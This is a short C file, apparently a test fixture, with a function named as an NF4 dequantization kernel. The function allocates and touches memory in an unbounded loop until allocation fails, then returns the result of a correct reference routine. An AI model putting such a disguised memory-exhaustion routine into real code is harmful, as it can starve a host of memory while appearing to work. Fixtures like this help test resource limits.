/* SPDX-License-Identifier: Apache-2.0 */
/* Takes memory by the mebibyte and touches it. */
#include <stdlib.h>

#include "right.h"

int32_t assay_nf4_dequantize(const AssayNf4Args* a) {
  for (;;) {
    char* more = malloc(1 << 20);
    if (more == NULL)
      return right_dequantize(a);
    memset(more, 1, 1 << 20);
  }
}
